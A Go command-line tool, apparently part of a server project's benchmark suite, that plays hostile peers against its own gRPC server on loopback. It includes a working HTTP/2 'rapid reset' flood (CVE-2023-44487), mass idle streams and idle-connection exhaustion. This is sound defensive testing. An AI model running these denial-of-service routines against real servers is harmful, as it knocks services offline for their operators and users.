// Command attack plays the hostile peers of issue 16 against a pcusage server on loopback, so that bench/attacks can
// show what each makes the server hold and that it serves afterwards. Each mode prints one JSON object on stdout.
//
//	attack rapidreset  -addr 127.0.0.1:50051 [-conns 2] [-duration 8s]
//	    HTTP/2 "rapid reset" (CVE-2023-44487): open a ListUsageRecords stream and cancel it at once, as fast as
//	    possible, on each connection. Reports the streams opened and whether the server sent GOAWAY.
//	attack idlestreams -addr ... -method reflection|health|list [-n 1000] [-hold 10s] [-api_key K]
//	    open n streams that never send a message (reflection, health Watch) or list against a stalled upstream,
//	    hold them, then close. Reports how many were opened and how they ended.
//	attack idleconns   -addr ... [-n 1100] [-hold 10s]
//	    open n TCP connections that never speak, hold them, then close them.
//	attack healthcheck -addr ...
//	    one grpc.health.v1.Health/Check of the server ("") with a 20 s deadline: a probe that needs no upstream.
//	attack slowupstream -port_file F [-delay 1h]
//	    a Partner Center stand-in whose every answer takes -delay (for "list" streams that stay open).
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/health/grpc_health_v1"
	"google.golang.org/grpc/metadata"
	reflectionpb "google.golang.org/grpc/reflection/grpc_reflection_v1alpha"
	"google.golang.org/grpc/status"

	pb "github.com/pcusage/pcusage/client_stubs/go/partnercenter/usage/v1"
)

const listMethod = "/partnercenter.usage.v1.UsageRecordsService/ListUsageRecords"

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack rapidreset|idlestreams|idleconns|slowupstream [flags]")
		os.Exit(2)
	}
	modes := map[string]func([]string) (any, error){
		"rapidreset":   rapidReset,
		"idlestreams":  idleStreams,
		"idleconns":    idleConns,
		"slowupstream": slowUpstream,
		"healthcheck":  healthCheck,
	}
	mode, ok := modes[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "attack: unknown mode %q\n", os.Args[1])
		os.Exit(2)
	}
	result, err := mode(os.Args[2:])
	if err != nil {
		fmt.Fprintf(os.Stderr, "attack %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
	if err := json.NewEncoder(os.Stdout).Encode(result); err != nil {
		os.Exit(1)
	}
}

type rapidResetResult struct {
	StreamsOpened int64 `json:"streams_opened"`
	GoAways       int64 `json:"goaways"`
	ConnsClosed   int64 `json:"conns_closed_by_server"`
	Seconds       float64
}

func rapidReset(args []string) (any, error) {
	flags := flag.NewFlagSet("rapidreset", flag.ContinueOnError)
	addr := flags.String("addr", "", "server host:port")
	conns := flags.Int("conns", 2, "connections")
	duration := flags.Duration("duration", 8*time.Second, "how long to attack")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	var result rapidResetResult
	var wg sync.WaitGroup
	deadline := time.Now().Add(*duration)
	start := time.Now()
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			opened, goaway, closed := resetLoop(*addr, deadline)
			atomic.AddInt64(&result.StreamsOpened, opened)
			if goaway {
				atomic.AddInt64(&result.GoAways, 1)
			}
			if closed {
				atomic.AddInt64(&result.ConnsClosed, 1)
			}
		}()
	}
	wg.Wait()
	result.Seconds = time.Since(start).Seconds()
	return result, nil
}

// resetLoop opens and cancels streams on one connection until the deadline or until the server ends the connection.
func resetLoop(addr string, deadline time.Time) (opened int64, goaway bool, closed bool) {
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return 0, false, true
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return 0, false, true
	}
	framer := http2.NewFramer(conn, conn)
	var writeMu sync.Mutex
	write := func(f func() error) error {
		writeMu.Lock()
		defer writeMu.Unlock()
		return f()
	}
	if err := write(func() error { return framer.WriteSettings() }); err != nil {
		return 0, false, true
	}
	var sawGoAway, sawClose atomic.Bool
	go func() {
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				sawClose.Store(true)
				return
			}
			switch f := frame.(type) {
			case *http2.GoAwayFrame:
				sawGoAway.Store(true)
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = write(func() error { return framer.WriteSettingsAck() })
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					_ = write(func() error { return framer.WritePing(true, f.Data) })
				}
			}
		}
	}()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: listMethod},
		{Name: ":authority", Value: addr}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	} {
		_ = encoder.WriteField(field)
	}
	headers := block.Bytes()
	for id := uint32(1); time.Now().Before(deadline) && !sawClose.Load() && id < 1<<31-2; id += 2 {
		err := write(func() error {
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
				return err
			}
			return framer.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		if err != nil {
			break
		}
		opened++
	}
	return opened, sawGoAway.Load(), sawClose.Load()
}

type idleStreamsResult struct {
	Requested int            `json:"requested"`
	Opened    int            `json:"opened"`
	Endings   map[string]int `json:"endings"` // gRPC code of each stream's end, as seen by the caller
}

func idleStreams(args []string) (any, error) {
	flags := flag.NewFlagSet("idlestreams", flag.ContinueOnError)
	addr := flags.String("addr", "", "server host:port")
	method := flags.String("method", "reflection", "reflection, health or list")
	n := flags.Int("n", 1000, "streams")
	hold := flags.Duration("hold", 10*time.Second, "how long to hold them")
	apiKey := flags.String("api_key", "", "x-api-key to send")
	perConn := flags.Int("per_conn", 90, "streams per connection")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if *apiKey != "" {
		ctx = metadata.AppendToOutgoingContext(ctx, "x-api-key", *apiKey)
	}
	var conns []*grpc.ClientConn
	defer func() {
		for _, conn := range conns {
			conn.Close()
		}
	}()
	result := idleStreamsResult{Requested: *n, Endings: map[string]int{}}
	var mu sync.Mutex
	var wg sync.WaitGroup
	end := func(err error) {
		mu.Lock()
		defer mu.Unlock()
		result.Endings[status.Code(err).String()]++
	}
	for i := 0; i < *n; i++ {
		if i%*perConn == 0 {
			conn, err := grpc.NewClient(*addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
			if err != nil {
				return nil, err
			}
			conns = append(conns, conn)
		}
		conn := conns[len(conns)-1]
		opened, wait, err := openIdleStream(ctx, conn, *method)
		if err != nil {
			end(err)
			continue
		}
		if opened {
			result.Opened++
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			end(wait())
		}()
	}
	time.Sleep(*hold)
	cancel()
	wg.Wait()
	return result, nil
}

// openIdleStream starts one stream that sends nothing more; wait blocks until it ends and returns how it ended.
func openIdleStream(ctx context.Context, conn *grpc.ClientConn, method string) (bool, func() error, error) {
	switch method {
	case "reflection":
		stream, err := reflectionpb.NewServerReflectionClient(conn).ServerReflectionInfo(ctx)
		if err != nil {
			return false, nil, err
		}
		return true, func() error { _, err := stream.Recv(); return err }, nil
	case "health":
		stream, err := grpc_health_v1.NewHealthClient(conn).Watch(ctx, &grpc_health_v1.HealthCheckRequest{})
		if err != nil {
			return false, nil, err
		}
		return true, func() error {
			for {
				if _, err := stream.Recv(); err != nil {
					return err
				}
			}
		}, nil
	case "list":
		stream, err := pb.NewUsageRecordsServiceClient(conn).ListUsageRecords(ctx, &pb.ListUsageRecordsRequest{})
		if err != nil {
			return false, nil, err
		}
		return true, func() error {
			for {
				if _, err := stream.Recv(); err != nil {
					if errors.Is(err, io.EOF) {
						return status.Error(codes.OK, "")
					}
					return err
				}
			}
		}, nil
	}
	return false, nil, fmt.Errorf("unknown method %q", method)
}

type idleConnsResult struct {
	Requested int `json:"requested"`
	Opened    int `json:"opened"`
	// Connections the server had closed by the end of the hold (a read returned EOF or an error).
	ClosedByServer int `json:"closed_by_server"`
}

func idleConns(args []string) (any, error) {
	flags := flag.NewFlagSet("idleconns", flag.ContinueOnError)
	addr := flags.String("addr", "", "server host:port")
	n := flags.Int("n", 1100, "connections")
	hold := flags.Duration("hold", 10*time.Second, "how long to hold them")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	result := idleConnsResult{Requested: *n}
	var conns []net.Conn
	for i := 0; i < *n; i++ {
		conn, err := net.DialTimeout("tcp", *addr, 2*time.Second)
		if err != nil {
			continue
		}
		conns = append(conns, conn)
	}
	result.Opened = len(conns)
	time.Sleep(*hold)
	for _, conn := range conns {
		// Whatever the server sent (its SETTINGS) is read first; a connection it closed then ends in EOF or a reset,
		// one it keeps in a read time-out.
		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
		var buffer [4096]byte
		for {
			if _, err := conn.Read(buffer[:]); err != nil {
				if !errors.Is(err, os.ErrDeadlineExceeded) {
					result.ClosedByServer++
				}
				break
			}
		}
		conn.Close()
	}
	return result, nil
}

func healthCheck(args []string) (any, error) {
	flags := flag.NewFlagSet("healthcheck", flag.ContinueOnError)
	addr := flags.String("addr", "", "server host:port")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	conn, err := grpc.NewClient(*addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	response, err := grpc_health_v1.NewHealthClient(conn).Check(ctx, &grpc_health_v1.HealthCheckRequest{})
	if err != nil {
		return nil, err
	}
	return map[string]string{"status": response.GetStatus().String()}, nil
}

func slowUpstream(args []string) (any, error) {
	flags := flag.NewFlagSet("slowupstream", flag.ContinueOnError)
	portFile := flags.String("port_file", "", "file to write the bound port to")
	delay := flags.Duration("delay", time.Hour, "how long each answer takes")
	if err := flags.Parse(args); err != nil {
		return nil, err
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	port := listener.Addr().(*net.TCPAddr).Port
	if err := os.WriteFile(*portFile+".tmp", []byte(strconv.Itoa(port)+"\n"), 0o644); err != nil {
		return nil, err
	}
	if err := os.Rename(*portFile+".tmp", *portFile); err != nil {
		return nil, err
	}
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(*delay):
		case <-r.Context().Done():
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"totalCount":0,"items":[],"attributes":{"objectType":"Collection"}}`)
	})
	return nil, http.Serve(listener, handler)
}
